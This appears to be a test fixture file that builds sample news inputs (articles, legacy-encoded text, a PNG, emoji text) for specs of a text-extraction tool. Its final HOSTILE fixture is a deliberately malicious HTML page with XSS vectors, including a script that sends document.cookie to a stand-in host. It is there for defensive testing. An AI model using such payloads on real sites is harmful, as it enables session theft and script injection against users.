// Inputs the specs drop on the page, built here (bytes included) so no
// test depends on files outside the repository.

export const ARTICLE = {
  name: 'harbor-talks.txt',
  type: 'text/plain',
  bytes: [
    'Harbor talks resume in Velmora',
    '',
    'Velmora, March 10 - Negotiators for the Allied Dockers Union met the Port Authority on Monday, union president Zoë Ångström-Lind said.',
    '',
    '"We will be back at the table," Ångström-Lind told reporters. Port director Oluwaseun Adébáyọ̀ declined to comment.',
    '',
  ].join('\n'),
};

export const PAGE = {
  name: 'ferry.html',
  type: 'text/html',
  bytes:
    '<!doctype html><html><head><title>Ferry service cut</title></head><body><nav>Home | News | Sport</nav>' +
    '<article><h1>Ferry service cut</h1><p>Ferry operator Northwind Lines will cut its Velmora route, chief executive Henrik Dahlgren said on Tuesday.</p>' +
    '<p>"The route lost money for three years," Dahlgren said.</p></article><footer>Copyright Harbor Herald</footer></body></html>',
};

/** "... El café del puerto cuesta 3 € según Lucía Ferrão ..." in windows-1252 (é=E9, €=80, ú=FA, í=ED, ã=E3). */
export const LEGACY = {
  name: 'gazette-1252.txt',
  type: 'text/plain',
  bytes: Uint8Array.from(
    Buffer.concat([
      Buffer.from('Velmora, 6 de marzo. El caf', 'latin1'),
      Buffer.from([0xe9]),
      Buffer.from(' del puerto cuesta 3 ', 'latin1'),
      Buffer.from([0x80]),
      Buffer.from(' seg', 'latin1'),
      Buffer.from([0xfa]),
      Buffer.from('n Luc', 'latin1'),
      Buffer.from([0xed]),
      Buffer.from('a Ferr', 'latin1'),
      Buffer.from([0xe3]),
      Buffer.from('o, portavoz de la Autoridad Portuaria.\n', 'latin1'),
    ]),
  ),
  decoded: 'El café del puerto cuesta 3 € según Lucía Ferrão',
};

/** A PNG signature and the start of an IHDR chunk, then binary noise. */
export const IMAGE = {
  name: 'photo.png',
  type: 'image/png',
  bytes: Uint8Array.from([
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52,
    0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89, 0, 0, 0, 0, 0xff, 0xfe,
  ]),
  warning: 'not a text file (a PNG image); skipped',
};

/** Emoji and other astral characters before and between the names. */
export const ASTRAL = {
  name: 'astral.txt',
  type: 'text/plain',
  bytes: '😀🎉 Zoë Ångström-Lind spoke to the Allied Dockers Union in Velmora. 👍🏽🇫🇷 Oluwaseun Adébáyọ̀ agreed.\n',
};

/** Everything a hostile page could try: script, handlers, fetch, javascript: links, meta refresh. */
export const HOSTILE = {
  name: 'hostile.html',
  type: 'text/html',
  bytes: `<!doctype html><html><head><title>Breaking: Velmora mayor resigns</title>
<meta http-equiv="refresh" content="0; url=http://example.invalid/refresh">
<link rel="stylesheet" href="http://example.invalid/style.css">
<script>window.__pwned = 'script'; alert('pwned by script'); fetch('http://example.invalid/steal?x=' + document.cookie);</script>
</head><body>
<article><h1>Velmora mayor resigns</h1>
<p>Mayor Ingrid Solberg resigned on Friday, the city council said. <img src=x onerror="window.__pwned='onerror'; alert('pwned by onerror')"></p>
<p><a href="javascript:window.__pwned='link';alert('pwned by link')">Read more</a> and <a href="https://harborherald.example/more">more here</a>.</p>
<iframe src="http://example.invalid/frame"></iframe>
<svg onload="window.__pwned='svg'"></svg>
<p>&lt;script&gt;window.__pwned = 'escaped'&lt;/script&gt; stays text.</p>
</article>
<script src="http://example.invalid/evil.js"></script>
</body></html>`,
};
